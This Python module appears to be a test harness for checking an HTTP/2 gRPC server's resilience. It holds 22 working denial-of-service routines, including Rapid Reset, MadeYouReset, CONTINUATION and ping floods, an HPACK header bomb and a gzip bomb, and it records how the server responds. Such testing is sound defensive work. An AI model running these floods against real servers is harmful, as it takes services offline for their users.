"""`RawConnection` speaks HTTP/2 frame by frame, to do what no client of gRPC does. `ABUSES` are ways to harm a server
by it; each ends when the server has had enough, or when the abuse is complete."""

from __future__ import annotations

import asyncio
import gzip
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable, Iterable
from contextlib import asynccontextmanager, suppress

from hpack import Decoder, Encoder, HPACKError
from hyperframe.exceptions import HyperframeError
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
MAX_UNSENT_BYTES = 1 << 20
"""What the server has not taken is not added to beyond this."""
TAKE_SECONDS = 20.0
"""How long the server may leave what it is sent."""
FRAME_BYTES = 16384
"""Of content at most, unless the server allows more."""


class Closed(Exception):
    """The server has closed the connection, or takes nothing more."""


class RawConnection:
    """A connection without any rule of HTTP/2: frames are sent as they are, and what comes back is counted."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, path: str) -> None:
        """`path` is that of the method which is called."""
        self._writer, self._path = writer, path
        self._encoder, self._decoder = Encoder(), Decoder()
        self.frames: Counter[str] = Counter()
        """Of the server, by kind."""
        self.goaway: tuple[int, bytes] | None = None
        """Error code and reason with which the server has ended the connection."""
        self.statuses: Counter[str] = Counter()
        """Of calls, as gRPC's numbers."""
        self.resets: Counter[int] = Counter()
        """Error code → number of streams that the server has reset."""
        self.is_closed = False
        self._heard = asyncio.Condition()
        self._reading = asyncio.create_task(self._read(reader))

    async def send(self, *frames: Frame | bytes) -> None:
        """Sends frames; waits while the server does not take them. Raises Closed."""
        if self.is_closed:
            raise Closed
        self._writer.write(b"".join(one if isinstance(one, bytes) else one.serialize() for one in frames))
        if self._writer.transport.get_write_buffer_size() > MAX_UNSENT_BYTES:
            try:
                async with asyncio.timeout(TAKE_SECONDS):
                    await self._writer.drain()
            except (TimeoutError, OSError) as error:
                raise Closed from error
        await asyncio.sleep(0)  # So that answers are read.

    def headers(self, stream_id: int, *fields: tuple[str, str], end: bool = False) -> HeadersFrame:
        """Returns the start of a call, in one frame."""
        flags = ["END_HEADERS", *(["END_STREAM"] if end else [])]
        return HeadersFrame(stream_id, self.block(fields), flags=flags)

    def block(self, fields: Iterable[tuple[str, str]]) -> bytes:
        """Returns the headers of a call, encoded."""
        return self.encode([*self.request_fields(self._path), *fields])

    def encode(self, fields: Iterable[tuple[str, str]]) -> bytes:
        return self._encoder.encode(fields, huffman=False)

    @staticmethod
    def request_fields(path: str) -> list[tuple[str, str]]:
        return [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", path),
            (":authority", "localhost"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
        ]

    @staticmethod
    def data(stream_id: int, content: bytes, *, end: bool = False) -> list[Frame]:
        """Returns DATA frames with the content."""
        starts = range(0, len(content), FRAME_BYTES) or [0]
        frames: list[Frame] = [DataFrame(stream_id, content[start : start + FRAME_BYTES]) for start in starts]
        if end:
            frames[-1].flags.add("END_STREAM")
        return frames

    async def wait_for(self, kind: str, count: int) -> None:
        """Waits until the server has sent so many frames of this kind. Raises Closed if it closes the connection."""
        async with self._heard, asyncio.timeout(TAKE_SECONDS):
            await self._heard.wait_for(lambda: self.frames[kind] >= count or self.is_closed)
        if self.frames[kind] < count:
            raise Closed

    async def _read(self, reader: asyncio.StreamReader) -> None:
        try:
            while True:
                frame, length = Frame.parse_frame_header(memoryview(await reader.readexactly(9)))
                frame.parse_body(memoryview(await reader.readexactly(length)))
                async with self._heard:
                    self._note(frame)
                    self._heard.notify_all()
        except (asyncio.IncompleteReadError, OSError, HyperframeError, HPACKError):
            async with self._heard:
                self.is_closed = True
                self._heard.notify_all()

    def _note(self, frame: Frame) -> None:
        self.frames[type(frame).__name__.removesuffix("Frame")] += 1
        match frame:
            case HeadersFrame():
                fields = self._decoder.decode(frame.data)
                self.statuses.update(str(value) for name, value in fields if str(name) == "grpc-status")
            case GoAwayFrame():
                self.goaway = frame.error_code, frame.additional_data
            case RstStreamFrame():
                self.resets[frame.error_code] += 1

    async def close(self) -> None:
        self._writer.transport.abort()
        await self._reading
        with suppress(OSError):
            await self._writer.wait_closed()


@asynccontextmanager
async def raw_connection(address: str, path: str) -> AsyncIterator[RawConnection]:
    """Connects to `host:port` to call this method, and begins as HTTP/2 does."""
    host, _, port = address.rpartition(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    connection = RawConnection(reader, writer, path)
    try:
        await connection.send(PREFACE, SettingsFrame(0))
        yield connection
    finally:
        await connection.close()


def message(payload: bytes, *, compressed: bool = False) -> bytes:
    """Returns the bytes of a gRPC message."""
    return bytes([compressed]) + len(payload).to_bytes(4, "big") + payload


async def reset_rapidly(connection: RawConnection, count: int) -> None:
    """Begins calls and resets each at once (CVE-2023-44487)."""
    for number in range(count):
        stream_id = 2 * number + 1
        await connection.send(connection.headers(stream_id, end=True), RstStreamFrame(stream_id, 8))


async def make_server_reset(connection: RawConnection, count: int) -> None:
    """Begins calls and makes the server reset each, by a window that overflows (CVE-2025-8671)."""
    for number in range(count):
        stream_id = 2 * number + 1
        await connection.send(
            connection.headers(stream_id), WindowUpdateFrame(stream_id, (1 << 31) - 1), WindowUpdateFrame(stream_id, 1)
        )


async def flood_settings(connection: RawConnection, count: int) -> None:
    """Changes settings again and again (CVE-2019-9515)."""
    for number in range(count):
        await connection.send(SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: 65535 + number % 2}))


async def flood_pings(connection: RawConnection, count: int) -> None:
    """CVE-2019-9512."""
    for number in range(count):
        await connection.send(PingFrame(0, number.to_bytes(8, "big")))


async def flood_priorities(connection: RawConnection, count: int) -> None:
    """Changes the priority of streams that don't exist (CVE-2019-9513)."""
    for number in range(count):
        await connection.send(PriorityFrame(2 * (number % 10_000) + 1, depends_on=0, stream_weight=number % 256))


async def flood_window_updates(connection: RawConnection, count: int) -> None:
    """Of the connection, byte by byte."""
    for _ in range(count):
        await connection.send(WindowUpdateFrame(0, 1))


async def flood_continuations(connection: RawConnection, count: int) -> None:
    """Sends headers without end (CVE-2024-27316)."""
    await connection.send(HeadersFrame(1, connection.block([])))
    for number in range(count):
        await connection.send(ContinuationFrame(1, connection.block([(f"x-{number}", "x" * 100)])))


async def flood_empty_continuations(connection: RawConnection, count: int) -> None:
    """Sends headers without end, nor content."""
    await connection.send(HeadersFrame(1, connection.block([])))
    for _ in range(count):
        await connection.send(ContinuationFrame(1, b""))


async def flood_empty_data(connection: RawConnection, count: int) -> None:
    """Sends nothing again and again, on a call that is open (CVE-2019-9518)."""
    await connection.send(connection.headers(1))
    for _ in range(count):
        await connection.send(DataFrame(1, b""))


async def bomb_headers(connection: RawConnection, count: int) -> None:
    """Fills the table of HPACK once, and then names the same 4 kB again and again (CVE-2016-6581)."""
    for number in range(count // 100):
        fields = [("x-bomb", "x" * 3900)] * 100
        await connection.send(HeadersFrame(2 * number + 1, connection.block(fields), flags=["END_HEADERS"]))


async def send_large_headers(connection: RawConnection, count: int) -> None:
    """Calls with 1 MB of metadata each."""
    for number in range(count // 1000):
        block = connection.block([(f"x-{number}-{part}", "y" * 8000) for part in range(128)])
        parts = [block[start : start + FRAME_BYTES] for start in range(0, len(block), FRAME_BYTES)]
        frames: list[Frame] = [HeadersFrame(2 * number + 1, parts[0])]
        frames += [ContinuationFrame(2 * number + 1, part) for part in parts[1:]]
        frames[-1].flags.add("END_HEADERS")
        await connection.send(*frames)


async def open_calls(connection: RawConnection, count: int) -> None:
    """Begins calls that never go on."""
    for number in range(count):
        await connection.send(connection.headers(2 * number + 1))


async def cut_messages(connection: RawConnection, count: int) -> None:
    """Begins messages of 4 MiB, and sends their first bytes alone."""
    for number in range(count):
        stream_id = 2 * number + 1
        start = b"\0" + (4 << 20).to_bytes(4, "big")
        await connection.send(connection.headers(stream_id), *connection.data(stream_id, start))


async def send_too_large(connection: RawConnection, count: int) -> None:
    """Sends messages of 4 MiB and one byte."""
    for number in range(count // 1000):
        stream_id = 2 * number + 1
        await connection.send(connection.headers(stream_id))
        for frame in connection.data(stream_id, message(bytes((4 << 20) + 1)), end=True):
            await connection.send(frame)


async def send_gzip_bomb(connection: RawConnection, count: int) -> None:
    """Sends messages of 64 kB that inflate to 64 MB."""
    bomb = message(BOMB, compressed=True)
    for number in range(count // 1000):
        stream_id = 2 * number + 1
        start = connection.headers(stream_id, ("grpc-encoding", "gzip"))
        await connection.send(start, *connection.data(stream_id, bomb, end=True))


async def exceed_windows(connection: RawConnection, count: int) -> None:
    """Sends more than flow control allows."""
    await connection.send(connection.headers(1))
    for frame in connection.data(1, bytes(count * 100)):
        await connection.send(frame)


async def shrink_windows(connection: RawConnection, count: int) -> None:
    """Makes calls whose answers it never takes: windows of no bytes (CVE-2019-9517)."""
    await connection.send(SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: 0}))
    for number in range(count):
        stream_id = 2 * number + 1
        await connection.send(connection.headers(stream_id), *connection.data(stream_id, message(b""), end=True))


async def break_off_headers(connection: RawConnection, count: int) -> None:
    """Stops within a frame."""
    await connection.send(connection.headers(1).serialize()[:-5])


async def use_wrong_streams(connection: RawConnection, count: int) -> None:
    """Sends data for streams that don't exist, and headers for those that only servers may open."""
    await connection.send(*connection.data(7, b"x"), connection.headers(2), b"\0\0\0\1\4\0\0\0\0")


async def send_wrong_padding(connection: RawConnection, count: int) -> None:
    """Says that there is more padding than there are bytes."""
    await connection.send(connection.headers(1), b"\x00\x00\x01\x00\x08\x00\x00\x00\x01\xff")


async def send_unknown_frames(connection: RawConnection, count: int) -> None:
    """Sends frames of a kind that does not exist, which are to be ignored."""
    for _ in range(count):
        await connection.send(b"\x00\x00\x08\xfe\x00\x00\x00\x00\x00" + bytes(8))


async def send_huge_frame(connection: RawConnection, count: int) -> None:
    """Says that a frame has 16 MiB, and sends one."""
    await connection.send(connection.headers(1), b"\xff\xff\xff\x00\x00\x00\x00\x00\x01")
    for _ in range(1024):
        await connection.send(bytes(16384))


BOMB = gzip.compress(bytes(64 << 20))

Abuse = Callable[[RawConnection, int], Awaitable[None]]
ABUSES: tuple[Abuse, ...] = (
    reset_rapidly,
    make_server_reset,
    flood_settings,
    flood_pings,
    flood_priorities,
    flood_window_updates,
    flood_continuations,
    flood_empty_continuations,
    flood_empty_data,
    bomb_headers,
    send_large_headers,
    open_calls,
    cut_messages,
    send_too_large,
    send_gzip_bomb,
    exceed_windows,
    shrink_windows,
    break_off_headers,
    use_wrong_streams,
    send_wrong_padding,
    send_unknown_frames,
    send_huge_frame,
)
